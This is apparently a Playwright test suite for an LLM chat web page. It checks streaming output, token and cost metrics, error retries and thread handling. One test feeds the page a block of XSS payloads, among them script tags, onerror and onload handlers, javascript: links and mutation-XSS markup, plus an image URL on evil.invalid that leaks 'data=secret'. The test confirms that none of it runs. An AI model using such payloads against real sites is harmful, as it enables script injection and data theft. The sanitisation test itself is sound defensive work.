"""The chat page in Chromium against the real server and the mock provider: what a person sees.

`mock-model` (openai, $2.50/$10 per 1M) is scripted per test through the `script` fixture and put back
afterwards; the `shape-*` models answer with each provider's own usage shape (tests/conftest.py).
"""

from __future__ import annotations

import json
import re

import pytest
from playwright.sync_api import expect

from llms.pricing import cost_for, format_usd, sum_costs
from tests.conftest import PRICES
from tests.mock_provider import Reply

ANSWER_TIMEOUT_MS = 15_000
# OpenAI's meaning of each shape's usage (the proxy normalizes; tests/integration/test_proxy.py checks that).
SHAPES = {
    "shape-openai": ("openai", {"prompt_tokens": 1200, "completion_tokens": 340,
                                "prompt_tokens_details": {"cached_tokens": 1000, "cache_write_tokens": 0},
                                "completion_tokens_details": {"reasoning_tokens": 120}},
                     "1,200 in (1,000 cached) / 340 out (120 reasoning)"),
    "shape-anthropic": ("anthropic", {"prompt_tokens": 1300, "completion_tokens": 340,
                                      "prompt_tokens_details": {"cached_tokens": 1000, "cache_write_tokens": 200,
                                                                "cache_write_1h_tokens": 50},
                                      "completion_tokens_details": {"reasoning_tokens": 0}},
                        "1,300 in (1,000 cached, 200 cache write) / 340 out"),
    "shape-google": ("google", {"prompt_tokens": 1200, "completion_tokens": 340,
                                "prompt_tokens_details": {"cached_tokens": 1000, "cache_write_tokens": 0},
                                "completion_tokens_details": {"reasoning_tokens": 120}},
                     "1,200 in (1,000 cached) / 340 out (120 reasoning)"),
}


@pytest.fixture
def script(mock_provider):
    """script(reply, model="mock-model"): what a mock model answers during this test."""
    before = dict(mock_provider.models)

    def set_reply(reply: Reply, model: str = "mock-model") -> None:
        mock_provider.set_model(model, reply)

    yield set_reply
    mock_provider.models.clear()
    mock_provider.models.update(before)


@pytest.fixture
def app(page, llms_server):
    page.goto(llms_server.url + "/")
    expect(page.get_by_role("combobox", name="Model")).to_be_visible()
    return page


def choose(page, value: str) -> None:
    page.get_by_role("combobox", name="Model").select_option(value)


def send(page, text: str, *, enter: bool = True) -> None:
    box = page.get_by_role("textbox", name="Message")
    box.fill(text)
    if enter:
        box.press("Enter")
    else:
        page.get_by_role("button", name="Send").click()


def answers(page):
    return page.get_by_role("article", name="Assistant")


def wait_answer(page, index: int):
    answer = answers(page).nth(index)
    expect(answer).not_to_have_attribute("aria-busy", "true", timeout=ANSWER_TIMEOUT_MS)
    expect(answer.locator("dl.metrics")).to_be_visible()
    return answer


def metrics(answer) -> list[str]:
    return answer.locator("dl.metrics dd").all_inner_texts()


def footer(page) -> list[str]:
    return page.locator("#thread-totals dd").all_inner_texts()


def sidebar_item(page, title: str):
    return page.get_by_role("listitem").filter(has_text=title)


def expected_cost(model: str) -> dict:
    provider, usage, _ = SHAPES[model]
    return cost_for(usage, PRICES[provider][model])


def test_empty_page_invites_a_first_message(app, shot, page_errors):
    expect(app.get_by_role("heading", name="Start a conversation")).to_be_visible()
    expect(app.get_by_text("No chats yet.")).to_be_visible()
    expect(app.get_by_role("button", name="New chat")).to_be_visible()
    expect(app.get_by_role("button", name="Send")).to_be_enabled()
    expect(app.get_by_role("button", name="Stop")).to_be_hidden()
    shot(app, "empty")
    assert page_errors == []


def test_model_selector_groups_enabled_models_with_prices_per_million(app):
    select = app.get_by_role("combobox", name="Model")
    groups = select.locator("optgroup")
    assert groups.evaluate_all("gs => gs.map(g => g.label)") == ["openai", "anthropic", "google", "backup", "selfhosted"]
    options = select.locator("option").all_inner_texts()
    assert "gpt-4o-mini · $0.15 in · $0.60 out per 1M" in options
    assert "claude-sonnet-4-5 · $3.00 in · $15.00 out per 1M" in options
    assert "unpriced-model · — in · — out per 1M" in options
    assert not any(o.startswith("keyless") for o in options)  # its provider has no key: not offered
    expect(select).to_have_value("openai/gpt-4o-mini")  # the config's default model


def test_new_thread_streams_markdown_with_highlighted_code_and_exact_metrics(app, script, shot, page_errors):
    script(Reply(text="Here is **bold** text.\n\n```python\ndef add(a, b):\n    return a + b\n```\n", chunk_delay_s=0.02,
                 usage={"openai": {"prompt_tokens": 1000, "completion_tokens": 500, "total_tokens": 1500}}))
    choose(app, "openai/mock-model")
    send(app, "Show me addition\nin Python")
    answer = wait_answer(app, 0)
    expect(answer.locator("strong")).to_have_text("bold")
    expect(answer.locator("pre code.hljs span.hljs-keyword").first).to_have_text("def")
    cost = format_usd(cost_for({"prompt_tokens": 1000, "completion_tokens": 500}, PRICES["openai"]["mock-model"])["cost_usd"],
                      "computed")
    assert cost == "$0.0075"
    shown = metrics(answer)
    assert shown[:4] == ["mock-model", "openai", "1,000 in / 500 out", cost]
    assert re.fullmatch(r"\d+ ms|\d+\.\d\d s", shown[4])  # response time
    assert shown[5].startswith("TTFT ")
    assert re.fullmatch(r"[\d,.]+ tok/s", shown[6]) and re.fullmatch(r"[\d,.]+ tok/s gen", shown[7])
    expect(app.get_by_role("heading", level=1)).to_have_text("Show me addition")
    item = sidebar_item(app, "Show me addition")
    expect(item.locator("dd")).to_have_text([cost, "1,000 in / 500 out", "1 request", re.compile(r".+")])
    assert footer(app)[:3] == [cost, "1,000 in / 500 out", "1 request"]
    shot(app, "answer")
    assert page_errors == []


def test_each_providers_usage_shape_is_priced_to_the_cent_and_the_thread_adds_up(app, shot):
    for index, model in enumerate(SHAPES):
        provider, _, tokens_text = SHAPES[model]
        choose(app, f"{provider}/{model}")
        send(app, f"Question {index + 1} for {model}")
        shown = metrics(wait_answer(app, index))
        assert shown[:4] == [model, provider, tokens_text, format_usd(expected_cost(model)["cost_usd"], "computed")]
    total = sum_costs([expected_cost(m) for m in SHAPES])
    assert format_usd(total["cost_usd"], total["provenance"]) == "$0.01"
    assert footer(app)[:3] == ["$0.01", "3,700 in / 1,020 out", "3 requests"]
    expect(sidebar_item(app, "Question 1").locator("dd").first).to_have_text("$0.01")
    shot(app, "shapes")


def test_reload_keeps_threads_messages_and_totals(app, page, page_errors):
    choose(app, "openai/shape-openai")
    send(app, "Remember me")
    wait_answer(app, 0)
    send(app, "And me too")
    wait_answer(app, 1)
    before = (metrics(answers(app).nth(1)), footer(app), app.url)
    app.reload()
    wait_answer(app, 1)
    assert (metrics(answers(app).nth(1)), footer(app), app.url) == before
    expect(app.get_by_role("article", name="You")).to_have_text(["Remember me", "And me too"])
    expect(sidebar_item(app, "Remember me")).to_be_visible()
    assert page_errors == []


def test_enter_sends_and_shift_enter_adds_a_line(app):
    box = app.get_by_role("textbox", name="Message")
    box.fill("first line")
    box.press("Shift+Enter")
    box.type("second line")
    expect(box).to_have_value("first line\nsecond line")
    box.press("Enter")
    expect(app.get_by_role("article", name="You")).to_have_text("first line\nsecond line")
    expect(box).to_have_value("")
    wait_answer(app, 0)


def test_stop_ends_the_answer_and_records_it_as_estimated(app, script, shot):
    script(Reply(text=" ".join(f"word{i}" for i in range(200)), chunk_delay_s=0.05))
    choose(app, "openai/mock-model")
    send(app, "Tell me a long story")
    answer = answers(app).nth(0)
    expect(answer).to_contain_text("word3", timeout=ANSWER_TIMEOUT_MS)
    app.get_by_role("button", name="Stop").click()
    expect(answer.get_by_text("Stopped.")).to_be_visible()
    expect(app.get_by_role("button", name="Send")).to_be_visible()
    expect(app.get_by_role("button", name="Stop")).to_be_hidden()
    shown = metrics(answer)
    assert shown[:2] == ["mock-model", "openai"]
    assert shown[3].startswith("~$")  # no usage came: estimated from the text, marked
    assert "word199" not in answer.inner_text()
    assert footer(app)[2] == "1 request"
    shot(app, "stopped")


def test_a_500_shows_with_retry_and_retry_answers(app, script, shot):
    # gpt-4o-mini: only openai serves it, so the server has no provider to fail over to.
    script(Reply(text="Recovered answer.", fault="500", fault_times=1), model="gpt-4o-mini")
    choose(app, "openai/gpt-4o-mini")
    send(app, "Try this")
    alert = app.get_by_role("alert")
    expect(alert).to_contain_text(re.compile(r"Error 5\d\d"), timeout=ANSWER_TIMEOUT_MS)
    expect(alert).to_contain_text("500")
    shot(app, "error")
    app.get_by_role("button", name="Retry").click()
    answer = wait_answer(app, 0)
    expect(answer).to_contain_text("Recovered answer.")
    expect(app.get_by_role("button", name="Retry")).to_have_count(0)
    assert footer(app)[2] == "2 requests"  # the failed request is recorded too


@pytest.mark.parametrize(("model", "status_text"), [
    ("fault-401", "Error 401"),
    ("fault-429", "Error 429"),
    ("fault-slow", "Error 504"),
    ("fault-cut", "Error"),
])
def test_provider_faults_show_their_status_and_reason_with_retry(app, model, status_text):
    choose(app, f"openai/{model}")
    send(app, f"Provoke {model}")
    alert = app.get_by_role("alert")
    expect(alert).to_contain_text(status_text, timeout=ANSWER_TIMEOUT_MS)
    assert len(alert.inner_text()) > len(status_text) + 5  # a reason, not just a number
    expect(app.get_by_role("button", name="Retry")).to_be_visible()
    assert footer(app)[2] == "1 request"


HOSTILE = """Hostile output follows.

<script>window.__xss = "script"</script>
<img src="x" onerror="window.__xss = 'onerror'">
[js link](javascript:window.__xss='markdown-link')
<a href="javascript:window.__xss='html-link'">html js link</a>
<a href="jAvAsCrIpT&colon;window.__xss='entity-link'">entity js link</a>
<svg onload="window.__xss='svg'"><script>window.__xss='svg-script'</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.__xss='mathml'"></style></mglyph></table></mtext></math>
<iframe srcdoc="<script>parent.__xss='iframe'</script>"></iframe>
<details open ontoggle="window.__xss='ontoggle'"><summary>d</summary>x</details>
<form action="javascript:window.__xss='form'"><button>go</button></form>
<div style="background-image:url(http://evil.invalid/bg.png)">styled</div>
<img srcset="http://evil.invalid/srcset.png 1x" alt="srcset">

![leak](http://evil.invalid/pixel.png?data=secret)
"""


def test_hostile_model_output_never_runs_script_nor_loads_remote_content(app, script, llms_server, shot, page_errors):
    foreign = []
    app.on("request", lambda request: foreign.append(request.url) if not request.url.startswith(llms_server.url) else None)
    dialogs = []
    app.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    script(Reply(text=HOSTILE))
    choose(app, "openai/mock-model")
    send(app, "Be hostile")
    answer = wait_answer(app, 0)
    expect(answer).to_contain_text("Hostile output follows.")
    expect(answer).to_contain_text("remote image not loaded: leak")
    for name in ["js link", "html js link", "entity js link"]:
        link = answer.get_by_text(name)
        if link.count():
            link.first.click()
    app.wait_for_timeout(300)
    assert app.evaluate("window.__xss") is None
    assert dialogs == []
    assert foreign == []
    assert answer.locator("script, iframe, svg, math, form, [style], [onerror], [onload], [ontoggle]").count() == 0
    assert all(not (href or "").lower().startswith("javascript")
               for href in answer.locator("a").evaluate_all("as => as.map(a => a.getAttribute('href'))"))
    shot(app, "hostile")
    assert page_errors == []


def test_what_a_person_types_is_shown_as_text(app, page_errors):
    typed = '<img src=x onerror="window.__xss=1"> <b>not bold</b>'
    send(app, typed)
    expect(app.get_by_role("article", name="You")).to_have_text(typed)
    assert app.get_by_role("article", name="You").locator("img, b").count() == 0
    wait_answer(app, 0)
    assert app.evaluate("window.__xss") is None
    assert page_errors == []


def test_threads_are_newest_first_and_can_be_renamed_and_deleted(app, shot):
    send(app, "Older thread")
    wait_answer(app, 0)
    app.get_by_role("button", name="New chat").click()
    expect(app.get_by_role("heading", name="Start a conversation")).to_be_visible()
    send(app, "Newer thread")
    wait_answer(app, 0)
    titles = app.locator(".thread-name")
    expect(titles).to_have_text(["Newer thread", "Older thread"])

    older = sidebar_item(app, "Older thread")
    older.hover()
    older.get_by_role("button", name="Rename").click()
    field = app.get_by_role("textbox", name="Thread name")
    field.fill("Renamed thread")
    field.press("Enter")
    expect(titles).to_have_text(["Newer thread", "Renamed thread"])

    renamed = sidebar_item(app, "Renamed thread")
    renamed.hover()
    renamed.get_by_role("button", name="Delete").click()
    dialog = app.get_by_role("dialog")
    expect(dialog).to_contain_text("Renamed thread")
    shot(app, "delete-dialog")
    dialog.get_by_role("button", name="Delete").click()
    expect(titles).to_have_text(["Newer thread"])
    app.reload()
    expect(app.locator(".thread-name")).to_have_text(["Newer thread"])


def test_two_tabs_sending_at_once_keep_exact_totals(context, llms_server, script):
    script(Reply(text="Slow enough to overlap with the other tab.", chunk_delay_s=0.1,
                 usage={"openai": {"prompt_tokens": 100, "completion_tokens": 10, "total_tokens": 110}}))
    first = context.new_page()
    first.goto(llms_server.url + "/")
    choose(first, "openai/mock-model")
    send(first, "Shared thread")
    wait_answer(first, 0)
    second = context.new_page()
    second.goto(first.url)
    wait_answer(second, 0)
    choose(second, "openai/mock-model")
    for tab in (first, second):
        tab.get_by_role("textbox", name="Message").fill("at once")
    first.get_by_role("button", name="Send").click()
    second.get_by_role("button", name="Send").click()
    for tab in (first, second):
        expect(tab.get_by_role("button", name="Send")).to_be_visible(timeout=ANSWER_TIMEOUT_MS)
    first.reload()
    wait_answer(first, 0)
    assert footer(first)[1:3] == ["300 in / 30 out", "3 requests"]
    # The day's rollup (what the analytics pages read) counted every request exactly once.
    day = first.evaluate("""async () => {
        const { readRange } = await import('/static/js/store/store.js');
        const days = await readRange(['day:', 'day;']);
        return days.reduce((sum, d) => ({ requests: sum.requests + d.requests, prompt: sum.prompt + d.prompt_tokens }),
                           { requests: 0, prompt: 0 });
    }""")
    assert day == {"requests": 3, "prompt": 300}


def test_a_thread_with_an_unpriced_model_says_so_in_its_totals_and_hints_at_the_price_to_add(app, script, shot, page_errors):
    script(Reply(text="Priced or not.", usage={"openai": {"prompt_tokens": 1000, "completion_tokens": 500, "total_tokens": 1500}}))
    choose(app, "openai/mock-model")
    send(app, "One priced, one not")
    priced = wait_answer(app, 0)
    cost = format_usd(cost_for({"prompt_tokens": 1000, "completion_tokens": 500}, PRICES["openai"]["mock-model"])["cost_usd"],
                      "computed")
    assert metrics(priced)[3] == cost == "$0.0075"
    choose(app, "selfhosted/unpriced-model")  # selfhosted has no pricing in llms.json (tests/conftest.py)
    send(app, "And now unpriced")
    unpriced = wait_answer(app, 1)
    hint = "no price: add providers.selfhosted.pricing.unpriced-model to llms.json"
    assert metrics(unpriced)[:4] == ["unpriced-model", "selfhosted", "1,000 in / 500 out", f"— ({hint})"]
    cost_cell = unpriced.locator("dl.metrics dd").nth(3)
    expect(cost_cell.locator(".metric-note")).to_be_visible()
    assert cost_cell.get_attribute("title").startswith("Cost unknown: unpriced-model on selfhosted has no price.")
    assert footer(app)[:3] == ["$0.0075 (+1 unpriced)", "2,000 in / 1,000 out", "2 requests"]
    expect(sidebar_item(app, "One priced, one not").locator("dd").first).to_have_text("$0.0075 (+1 unpriced)")
    shot(app, "unpriced")
    app.reload()
    wait_answer(app, 1)
    assert footer(app)[0] == "$0.0075 (+1 unpriced)"
    assert metrics(answers(app).nth(1))[3] == f"— ({hint})"
    assert page_errors == []


def sse_body(*events) -> str:
    return "".join(f"data: {event if isinstance(event, str) else json.dumps(event)}\n\n" for event in events)


def test_an_answer_that_cannot_be_recorded_shows_the_error_with_retry_and_is_stored_as_an_error(app, script, shot, page_errors):
    # Usage whose cache reads and writes exceed its prompt tokens: pricing.js refuses it ("usage does not add up").
    # The server refuses such usage as malformed, so its answer is played here: the page must survive it anyway.
    usage = {"prompt_tokens": 10, "completion_tokens": 5, "total_tokens": 15,
             "prompt_tokens_details": {"cached_tokens": 8, "cache_write_tokens": 5}}
    body = sse_body({"choices": [{"index": 0, "delta": {"content": "Counted."}, "finish_reason": "stop"}]},
                    {"choices": [], "usage": usage}, "[DONE]")
    headers = {"Content-Type": "text/event-stream", "X-LLMS-Provider": "openai", "X-LLMS-Provider-Model": "mock-model"}
    app.route("**/v1/chat/completions", lambda route: route.fulfill(status=200, headers=headers, body=body), times=1)
    choose(app, "openai/mock-model")
    send(app, "Count my tokens")
    alert = app.get_by_role("alert")
    expect(alert).to_contain_text("the answer could not be recorded: usage does not add up: prompt_tokens 10 < cached 8",
                                  timeout=ANSWER_TIMEOUT_MS)
    expect(answers(app).nth(0)).to_contain_text("Counted.")
    expect(app.get_by_role("button", name="Send")).to_be_enabled()
    expect(app.get_by_role("button", name="Stop")).to_be_hidden()
    expect(app.get_by_role("button", name="Retry")).to_be_visible()
    assert footer(app)[:3] == ["— (+1 unpriced)", "0 in / 0 out", "1 request"]
    shot(app, "unrecordable")
    stored = app.evaluate("""async () => {
        const { readRange } = await import('/static/js/store/store.js');
        return (await readRange(['req:', 'req;'])).map((r) => ({ status: r.status, error: r.error.message, cost: r.cost_usd }));
    }""")
    assert len(stored) == 1 and stored[0]["status"] == "error" and stored[0]["cost"] is None
    assert stored[0]["error"].startswith("the answer could not be recorded: usage does not add up: prompt_tokens 10 < cached 8")

    script(Reply(text="Recorded this time.", usage={"openai": {"prompt_tokens": 1000, "completion_tokens": 500, "total_tokens": 1500}}))
    app.get_by_role("button", name="Retry").click()
    answer = wait_answer(app, 0)
    expect(answer).to_contain_text("Recorded this time.")
    expect(app.get_by_role("alert")).to_have_count(0)
    assert footer(app)[:3] == ["$0.0075 (+1 unpriced)", "1,000 in / 500 out", "2 requests"]
    assert page_errors == []
